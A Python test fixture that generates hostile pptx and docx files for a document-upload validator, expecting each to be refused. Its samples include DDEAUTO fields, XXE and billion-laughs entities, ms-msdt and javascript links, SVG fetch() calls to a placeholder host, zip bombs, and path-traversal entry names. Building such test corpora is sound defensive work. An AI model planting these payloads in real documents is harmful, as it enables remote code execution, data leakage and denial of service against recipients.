"""Hostile decks and letters: what acts, reaches outside, hides or bursts, in every part that can hold it."""

import io
import stat
import struct
import zipfile
import zlib

from tests.corpus.made import MARK, File
from tests.portal.lib import evil

WEB = f"https://{MARK}/a"
SHARE = f"\\\\{MARK}\\share\\a"


def deck(more):
    return lambda path: evil.office(path, more)


def letter(more):
    return lambda path: evil.office(path, more, main="word/document.xml", kind=evil.DOCX)


BOTH = {"a deck": deck, "a letter": letter}


def in_turn(tricks):
    """Each trick in a deck and a letter by turns."""
    names = list(BOTH)
    for number, (name, more) in enumerate(tricks.items()):
        carrier = names[number % 2]
        yield f"{name}, in {carrier}", BOTH[carrier](more)


def tie(kind, target, mode=' TargetMode="External"'):
    return evil.RELS.format(f'<Relationship Id="r1" Type="{evil.OFFICE}/{kind}" Target="{target}"{mode}/>')


# What a part may be tied to outside, and where: none but plain links may stay.
KINDS = (
    "image", "oleObject", "frame", "subDocument", "audio", "video", "slideMaster", "theme", "font", "control",
    "package", "customXml", "aFChunk", "externalLinkPath", "attachedToolbars",
)  # fmt: skip
TARGETS = (WEB, SHARE, f"//{MARK}/a", f"file:///{MARK}/a", f"mhtml:{WEB}!x-usc:{WEB}")
LINKS = (
    SHARE, f"//{MARK}/a", f"file://{MARK}/a", f"javascript:location='{WEB}'", f"vbscript:{MARK}", f"data:text/html,{WEB}",
    f"ms-msdt:/id {MARK}", f"ms-word:ofe|u|{WEB}", f"search-ms:query=a&amp;crumb=location:{SHARE}", f"ldap://{MARK}/a",
    f"smb://{MARK}/a", f"shell:{MARK}", f"a.exe?{MARK}", f"\u200bhttps&#58;{MARK}", f" {SHARE}", f"ftp://{MARK}/a.exe",
)  # fmt: skip
PLACES = ("slides/_rels/slide1.xml.rels", "_rels/presentation.xml.rels", "slideMasters/_rels/slideMaster1.xml.rels",
          "notesSlides/_rels/notesSlide1.xml.rels", "charts/_rels/chart1.xml.rels")  # fmt: skip
WORDS = ("_rels/document.xml.rels", "_rels/header1.xml.rels", "_rels/footnotes.xml.rels", "_rels/settings.xml.rels",
         "_rels/webSettings.xml.rels", "glossary/_rels/document.xml.rels")  # fmt: skip


def tied():
    for number, kind in enumerate(KINDS):
        target = TARGETS[number % len(TARGETS)]
        yield f"{kind} from {target}, in a deck", deck({f"ppt/{PLACES[number % 5]}": tie(kind, target)})
        target = TARGETS[(number + 2) % len(TARGETS)]
        yield f"{kind} from {target}, in a letter", letter({f"word/{WORDS[number % 6]}": tie(kind, target)})
    for number, target in enumerate(LINKS):
        if number % 2:
            yield (
                f"a link to {target}, in a deck",
                deck({f"ppt/{PLACES[number % 5]}": tie("hyperlink", target)}),
            )
        else:
            yield (
                f"a link to {target}, in a letter",
                letter({f"word/{WORDS[number % 6]}": tie("hyperlink", target)}),
            )
    for mode in (' TargetMode="EXTERNAL"', ' TargetMode="Internal"', ""):
        yield (
            f"a picture from the web,{mode or ' without a word'}",
            deck({f"ppt/{PLACES[0]}": tie("image", WEB, mode)}),
        )
        yield (
            f"a picture of a share,{mode or ' without a word'}",
            letter({f"word/{WORDS[0]}": tie("image", SHARE, mode)}),
        )
    strange = evil.RELS.replace("<Relationships", "<x:Relationships").replace("xmlns=", "xmlns:x=")
    strange = strange.replace("</Relationships", "</x:Relationships")
    inner = f'<x:Relationship Id="r1" Type="{evil.OFFICE}/image" Target="{WEB}" TargetMode="External"/>'
    yield "a picture from the web, by another prefix", deck({f"ppt/{PLACES[0]}": strange.format(inner)})
    yield (
        "a picture from the web, in sixteen bits",
        deck(
            {
                f"ppt/{PLACES[0]}": ('<?xml version="1.0" encoding="UTF-16"?>' + tie("image", WEB)).encode(
                    "utf-16"
                )
            }
        ),
    )
    yield "a theme that brings itself, from the root", letter({"_rels/.rels": tie("officeDocument", WEB)})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60) + MARK.encode()
PROGRAM = b"MZ\x90\x00" + bytes(60) + MARK.encode()
PAGE = f"<html><script src={WEB}></script></html>"


def packed(more):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in more.items():
            made.writestr(name, content)
    return file.getvalue()


# A part by its name, and what is in it.
PARTS = {
    "macros": {"word/vbaProject.bin": OLE},
    "data of macros": {"ppt/vbaData.xml": "<a/>"},
    "signed macros": {"word/vbaProjectSignature.bin": OLE},
    "a control": {"ppt/activeX/activeX1.bin": OLE},
    "a control of the letter": {"word/activeX/activeX1.xml": "<a/>"},
    "an object": {"ppt/embeddings/oleObject1.bin": OLE},
    "an object by another name": {"word/embeddings/Microsoft_Letter.doc": OLE},
    "a deck with macros": {"ppt/embeddings/a.pptm": b"PK"},
    "a letter inside": {"word/embeddings/a.docx": b"PK"},
    "a table with macros": {"ppt/embeddings/a.xlsm": b"PK"},
    "an old table": {"word/embeddings/a.xls": OLE},
    "a binary table": {"ppt/embeddings/a.xlsb": b"PK"},
    "a program": {"word/media/a.exe": PROGRAM},
    "a library": {"ppt/media/a.dll": PROGRAM},
    "a script of Windows": {"word/media/a.vbs": WEB},
    "a script of the web": {"ppt/media/a.js": WEB},
    "a page": {"word/a.htm": PAGE},
    "a page in one": {"ppt/a.mht": PAGE},
    "an application of pages": {"word/media/a.hta": PAGE},
    "a link of Windows": {"ppt/media/a.lnk": b"L\x00\x00\x00" + MARK.encode()},
    "rich text": {"word/a.rtf": "{\\rtf1}"},
    "a disk": {"ppt/media/a.iso": MARK},
    "a Java program": {"word/media/a.jar": b"PK"},
    "without an ending": {"ppt/media/image1": MARK},
    "an ending in capitals": {"word/media/A.EXE": PROGRAM},
    "two endings": {"ppt/media/image1.png.exe": PROGRAM},
    "settings of a printer that are a program": {"word/printerSettings/printerSettings1.bin": PROGRAM},
    "a theme with macros": {"ppt/theme/theme.thmx": packed({"theme/vbaProject.bin": OLE})},
    "a theme that is no theme": {"word/theme/theme.thmx": PROGRAM},
    "an add-in that shows itself": {
        "ppt/webextensions/taskpanes.xml": "<taskpanes><taskpane visibility='1'/></taskpanes>",
        "ppt/webextensions/webextension1.xml": f"<webextension><reference store='{WEB}'/></webextension>",
    },
    "a page that Word takes in": {
        "word/chunk.xml": f"<html><img src='{WEB}'/></html>",
        "word/_rels/document.xml.rels": tie("aFChunk", "chunk.xml", ""),
    },
    "data that come in by themselves": {
        "ppt/embeddings/a.xlsx": packed({"xl/connections.xml": f"<connections><connection><webPr url='{WEB}'/></connection></connections>"}),
    },
    "a query of a table": {
        "word/embeddings/a.xlsx": packed({"xl/queryTables/queryTable1.xml": "<queryTable/>"}),
    },
    "a table with macros of old": {"ppt/embeddings/a.xlsx": packed({"xl/macrosheets/sheet1.xml": "<a/>",
        "[Content_Types].xml": '<Types><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'})},
    "a table tied to a share": {"word/embeddings/a.xlsx": packed({"xl/worksheets/_rels/sheet1.xml.rels": tie("hyperlink", SHARE)})},
    "a table that holds a program": {"ppt/embeddings/a.xlsx": packed({"xl/media/a.exe": PROGRAM})},
    "a table that bursts": {"word/embeddings/a.xlsx": packed({"xl/a.xml": b"<a>" + b" " * 45_000_000 + b"</a>"})},
    "a table in a table": {"ppt/embeddings/a.xlsx": packed({"xl/embeddings/b.xlsx": b"PK"})},
}  # fmt: skip
# What a part begins with, where its name says it is a picture, a sound or a font.
FALSE = {
    "a program": PROGRAM, "an object": OLE, "a packed file": b"PK\x03\x04" + MARK.encode(), "a page": PAGE.encode(),
    "a script": b"#!/bin/sh\n" + MARK.encode(), "a PDF": b"%PDF-1.7 " + MARK.encode(), "rich text": b"{\\rtf1 " + MARK.encode(),
    "a Linux program": b"\x7fELF" + MARK.encode(), "a Java program": b"\xca\xfe\xba\xbe" + MARK.encode(),
    "a rar": b"Rar!\x1a\x07" + MARK.encode(), "a film of Flash": b"FWS\x09" + MARK.encode(), "a 7z": b"7z\xbc\xaf\x27\x1c" + MARK.encode(),
}  # fmt: skip
MEDIA = ("png", "jpg", "gif", "emf", "wmf", "mp4", "wav", "fntdata", "odttf", "bmp", "tiff", "ico")


def false_parts():
    for number, (name, content) in enumerate(FALSE.items()):
        ending = MEDIA[number % len(MEDIA)]
        folder, carrier = (("ppt", "a deck"), ("word", "a letter"))[number % 2]
        yield (
            f"{name} that says it is {ending}, in {carrier}",
            BOTH[carrier]({f"{folder}/media/image1.{ending}": content}),
        )


def typed(kind, part="/ppt/a.xml"):
    return lambda path: typed_deck(path, kind, part)


def typed_deck(path, kind, part):
    types = evil.TYPES.format(main="ppt/presentation.xml", kind=evil.PPTX)
    types = types.replace("</Types>", f'<Override PartName="{part}" ContentType="{kind}"/></Types>')
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("[Content_Types].xml", types)
        made.writestr("ppt/presentation.xml", "<a/>")
        made.writestr("ppt/a.xml", f"<a>{WEB}</a>")


TYPES = (
    "application/vnd.ms-office.vbaProject", "application/vnd.ms-word.vbaData+xml", "application/vnd.ms-office.activeX+xml",
    "application/vnd.ms-powerpoint.template.macroEnabled.main+xml", "application/vnd.ms-excel.macrosheet+xml",
    "text/html", "application/xhtml+xml", "message/rfc822", "application/rtf", "APPLICATION/VND.MS-OFFICE.VBAPROJECT",
)  # fmt: skip
DTD = f'<!DOCTYPE a SYSTEM "{WEB}">'
INNER = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{WEB}">]>'
GROWING = (
    '<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 9}">' for n in range(1, 9))
    + "]>"
)
PARAMETER = f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{WEB}"> %x;]>'
DECLARED = {"a DTD": DTD, "an entity": INNER, "a growing entity": GROWING, "a parameter": PARAMETER,
            "a list of attributes": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>'}  # fmt: skip
XML_PARTS = ("ppt/slides/slide1.xml", "docProps/app.xml", "customXml/item1.xml", "ppt/_rels/presentation.xml.rels",
             "ppt/drawings/vmlDrawing1.vml", "ppt/media/image1.svg", "docProps/custom.xml")  # fmt: skip
WIDE = {"UTF-16": "utf-16", "UTF-16 without a mark": "utf-16-be"}


def declared():
    for number, (name, words) in enumerate(DECLARED.items()):
        for part in XML_PARTS[number % 2 :: 2]:
            yield f"{name} in {part}", deck({part: f"{words}<a/>"})
    for name, codec in WIDE.items():
        words = f'<?xml version="1.0" encoding="UTF-16"?>{INNER}<a>&x;</a>'
        yield f"an entity in {name}", deck({"ppt/slides/slide1.xml": words.encode(codec)})
    yield (
        "an entity in UTF-7",
        deck({"ppt/slides/slide1.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'}),
    )
    yield "a DTD after the end", deck({"ppt/slides/slide1.xml": f"<a/>{DTD}"})
    yield "a part of no words", letter({"word/header1.xml": b""})
    yield "a part with a nought", letter({"word/header1.xml": b"<a>\x00</a>"})
    yield "half a letter of UTF-8", letter({"word/header1.xml": b"<a>\xe2\x98</a>"})
    yield "elements 600 deep", letter({"word/document2.xml": "<a>" * 600 + "</a>" * 600})


def code(*pieces, simple=False):
    """A field of Word; `pieces` lie in runs of their own."""
    if simple:
        return "<w>" + "".join(f'<fldSimple instr="{piece}"/>' for piece in pieces) + "</w>"
    runs = "".join(f"<r><instrText>{piece}</instrText></r>" for piece in pieces)
    return f'<w><p><r><fldChar fldCharType="begin"/></r>{runs}<r><fldChar fldCharType="end"/></r></p></w>'


PAGE_FIELD = code(" PAGE")[3:-4]
FIELDS = {
    "a command": code(f' DDEAUTO c:\\\\a.exe "{MARK}"'),
    "a command in letters": code("D", "D", "E", "AUTO", f" a {MARK}"),
    "a command that starts in small letters": code(f"ddeauto a {MARK}"),
    "a command after a number of the page": f"<w>{PAGE_FIELD}{code(f'DDEAUTO a {MARK}')[3:-4]}</w>",
    "a simple command after a number of the page": code("PAGE", f"DDEAUTO a {MARK}", simple=True),
    "a command in a command": code(
        " QUOTE ", "</instrText></r>" + PAGE_FIELD + "<r><instrText>", f" DDE a {MARK}"
    ),
    "a text of a share": code(f" INCLUDETEXT {SHARE}"),
    "a text by its old name": code(f" INCLUDE {SHARE}"),
    "a picture of a share": code(f" INCLUDEPICTURE {SHARE}"),
    "a picture by its old name": code(f" IMPORT {SHARE}"),
    "a document that is referred to": code(f" RD {SHARE}"),
    "a database": code(f' DATABASE \\d {SHARE} \\c "DSN=a"'),
    "a link to a table": code(f" LINK Excel.Sheet.8 {SHARE}"),
    "an object": code(" EMBED Package"),
    "a link to a share": code(f' HYPERLINK "{SHARE}"'),
    "a link to a file": code(f' HYPERLINK "file:///{MARK}"'),
    "a link to a script": code(f' HYPERLINK "javascript:{MARK}"'),
    "a picture of the web as a simple field": code(f"INCLUDEPICTURE {WEB}", simple=True),
    "a letter to many": f'<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="{SHARE}"/></w:mailMerge></w:settings>',
    "a page taken in": '<w xmlns:r="r"><altChunk r:id="r1"/></w>',
    "a document within": '<w xmlns:r="r"><subDoc r:id="r1"/></w>',
    "an object of old": "<w><object><OLEObject ProgID='Package'/></object></w>",
    "a control": "<w><control/></w>",
}
SLIDES = {
    "a program": "ppaction://program", "a macro": "ppaction://macro?name=a", "an object": "ppaction://ole?verb=0",
    "a file": "ppaction://hlinkfile", "a program behind a blank": "  ppaction://program", "in capitals": "PPACTION://PROGRAM",
    "another deck": "ppaction://hlinkpres?slideindex=1",
}  # fmt: skip
DRAWINGS = {
    "a script": f"<script>fetch('{WEB}')</script>",
    "a script by another prefix": f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{MARK}</x:script>",
    "what is done on loading": f"<g onload='fetch(\"{WEB}\")'/>",
    "what is done by touch": f"<rect onMouseOver='{MARK}'/>",
    "a link to a script": f"<a xmlns:l='http://www.w3.org/1999/xlink' l:href='javascript:{MARK}'/>",
    "a picture of the web": f"<image href='{WEB}'/>",
    "a picture of a share": f"<image xmlns:l='http://www.w3.org/1999/xlink' l:href='{SHARE}'/>",
    "a page": f"<foreignObject><body><iframe src='{WEB}'/></body></foreignObject>",
    "words of another file": f"<use href='{WEB}#a'/>",
    "a style of the web": f"<style>@import url({WEB});</style>",
    "a ground of the web": f"<rect style='fill:url({WEB}#a)'/>",
    "a link that changes": f"<a><set attributeName='href' to='javascript:{MARK}'/></a>",
    "a page as words": f"<image href='data:text/html,{WEB}'/>",
}


def acting():
    places = ("word/document.xml", "word/header1.xml", "word/footnotes.xml", "word/settings.xml")
    for number, (name, words) in enumerate(FIELDS.items()):
        part = places[3] if "settings" in words else places[1 + number % 2]
        yield f"{name}, in {part}", letter({part: words})
    for number, (name, action) in enumerate(SLIDES.items()):
        element = ("hlinkClick", "hlinkHover", "hlinkMouseOver")[number % 3]
        yield (
            f"{element} of {name}",
            deck({"ppt/slides/slide1.xml": f'<a><{element} action="{action}"/></a>'}),
        )
    yield "an object on a slide", deck({"ppt/slides/slide1.xml": "<a><oleObj progId='Package'/></a>"})
    yield "a control on a slide", deck({"ppt/slides/slide1.xml": "<a><controls><control/></controls></a>"})
    for number, (name, words) in enumerate(DRAWINGS.items()):
        carrier, folder = (("a deck", "ppt"), ("a letter", "word"))[number % 2]
        drawing = f"<svg xmlns='http://www.w3.org/2000/svg'>{words}</svg>"
        yield f"a drawing with {name}, in {carrier}", BOTH[carrier]({f"{folder}/media/image1.svg": drawing})


NAMES = (
    "../../etc/cron.d/a.xml", "/etc/a.xml", "ppt/../../a.xml", "ppt\\..\\a.xml", "c:/a.xml", "\\\\host\\a.xml",
    "./ppt/a.xml", "ppt//a.xml", "ppt/./a.xml", "ppt/a.xml:stream.xml", "~/../a.xml",
    "ppt/" + "a" * 65_000 + ".xml", "ppt/" + "a/" * 3_000 + "a.xml", "ppt/gpj.\u202eexe", "ppt/a.xml ", "ppt/a.xml.",
)  # fmt: skip


def rezipped(change):
    """A harmless deck whose packing is changed by hand."""

    def build(path):
        content = evil.office(
            path, {"ppt/slides/slide1.xml": "<a>" + "What we learnt. " * 200 + "</a>"}
        ).read_bytes()
        return change(content)

    return build


def entry(content, back=1):
    """Where the last entry of the table of contents begins."""
    at = len(content)
    for _ in range(back):
        at = content.rindex(b"PK\x01\x02", 0, at)
    return at


def put(content, at, form, value):
    size = struct.calcsize(form)
    return content[:at] + struct.pack(form, value) + content[at + size :]


def special(mode):
    def build(path):
        evil.office(path, {})
        with zipfile.ZipFile(path, "a") as made:
            part = zipfile.ZipInfo("ppt/media/image1.png")
            part.create_system, part.external_attr = 3, (mode | 0o777) << 16
            made.writestr(part, f"/etc/{MARK}")

    return build


def many(count):
    return lambda path: evil.office(path, {f"ppt/slides/a{n}.xml": b"" for n in range(count)})


def squeezed(method, size=250_000_000):
    def build(path):
        evil.office(path, {})
        with (
            zipfile.ZipFile(path, "a", method, compresslevel=9) as made,
            made.open("ppt/slides/slide1.xml", "w") as part,
        ):
            part.write(b"<a>")
            for _ in range(size // 1_000_000):
                part.write(b" " * 1_000_000)
            part.write(b"</a>")

    return build


def overlapped(path):
    """Two names for the same packed bytes, as the bombs do that hold petabytes."""
    content = rezipped(bytes)(path)
    at, before = entry(content), entry(content, 2)
    return put(content, at + 42, "<I", struct.unpack("<I", content[before + 42 : before + 46])[0])


def twice(path):
    evil.office(path, {"ppt/slides/slide1.xml": "<a/>"})
    with zipfile.ZipFile(path, "a") as made:
        info = zipfile.ZipInfo("ppt/slides/slide1.xml")
        made.filelist = [part for part in made.filelist if part.filename != info.filename]
        made.NameToInfo.pop(info.filename)
        made.writestr(info, f"<a>{MARK}</a>")
        made.filelist.append(made.filelist[-1])


def other_name_within(content):
    """The name before the bytes is another than the one in the table of contents."""
    return content.replace(b"ppt/slides/slide1.xml", b"ppt/slides/slide1.exe", 1)


def rubbish(content):
    """The packed words of a part are no packed words."""
    at = content.index(b"slide1.xml") + 10
    return content[:at] + b"\xff" * 20 + content[at + 20 :]


PACKING = {
    "a link": (special(stat.S_IFLNK), "refused"),
    "a pipe": (special(stat.S_IFIFO), "either"),
    "a device": (special(stat.S_IFCHR), "either"),
    "6,000 empty parts": (many(6_000), "refused"),
    "spaces without end": (squeezed(zipfile.ZIP_DEFLATED), "refused"),
    "spaces without end by bzip2": (squeezed(zipfile.ZIP_BZIP2, 60_000_000), "refused"),
    "spaces without end by LZMA": (squeezed(zipfile.ZIP_LZMA, 60_000_000), "refused"),
    "parts that overlap": (overlapped, "refused"),
    "the same name twice": (twice, "refused"),
    "another name within": (rezipped(other_name_within), "refused"),
    "a size that lies": (rezipped(lambda c: put(c, entry(c) + 24, "<I", 5)), "refused"),
    "a size of four gigabytes": (rezipped(lambda c: put(c, entry(c) + 24, "<I", 0xFFFFFFFE)), "refused"),
    "a sum that lies": (rezipped(lambda c: put(c, entry(c) + 16, "<I", 1)), "refused"),
    "a packing nobody knows": (rezipped(lambda c: put(c, entry(c) + 10, "<H", 99)), "refused"),
    "a lock on one part": (rezipped(lambda c: put(c, entry(c) + 8, "<H", 1)), "refused"),
    "a disk that is missing": (rezipped(lambda c: put(c, len(c) - 18, "<H", 7)), "either"),
    "a table of contents that is missing": (rezipped(lambda c: c[: entry(c, 3)]), "refused"),
    "a table of contents elsewhere": (rezipped(lambda c: put(c, len(c) - 6, "<I", 0xFFFFFFF0)), "refused"),
    "rubbish in a part": (rezipped(rubbish), "refused"),
    "words after its end": (rezipped(lambda c: c + b"MZ" + MARK.encode()), "either"),
    "a remark at its end": (rezipped(lambda c: put(c, len(c) - 2, "<H", len(MARK)) + MARK.encode()), "safe"),
    "another packed file behind it": (rezipped(lambda c: c + packed({"a.exe": PROGRAM})), "refused"),
    "half of it": (rezipped(lambda c: c[: len(c) // 2]), "refused"),
    "its first bytes alone": (rezipped(lambda c: c[:30]), "refused"),
    "all but its last byte": (rezipped(lambda c: c[:-1]), "refused"),
    "a stream that ends early": (rezipped(lambda c: put(c, entry(c) + 20, "<I", 3)), "refused"),
    "only its list of types": (lambda _: packed({"[Content_Types].xml": "<Types/>"}), "refused"),
    "a table of Excel": (lambda _: packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<a/>"}), "refused"),
    "a book to read": (lambda _: packed({"mimetype": "application/epub+zip", "META-INF/container.xml": "<a/>"}), "refused"),
    "a letter of another office": (lambda _: packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), "refused"),
    "an app of Android": (lambda _: packed({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n035"}), "refused"),
    "a Java program": (lambda _: packed({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}), "refused"),
    "a script in a closed packing": (lambda _: zlib.compress(b"x"), "refused"),
}  # fmt: skip

HOSTILE = [
    *(File("Office", name, build, "refused") for name, build in tied()),
    *(File("Office", f"holds {name}", build, "refused") for name, build in in_turn(PARTS)),
    *(File("Office", name, build, "refused") for name, build in false_parts()),
    *(File("Office", f"a part of the type {kind}", typed(kind), "refused") for kind in TYPES),
    *(File("Office", name, build, "refused") for name, build in declared()),
    *(File("Office", name, build, "refused") for name, build in acting()),
    *(
        File("Office", f"a name: {name[:40]!r} ({len(name)})", deck({name: f"<a>{MARK}</a>"}), "refused")
        for name in NAMES
    ),
    *(File("Office", f"packing: {name}", build, fate) for name, (build, fate) in PACKING.items()),
]
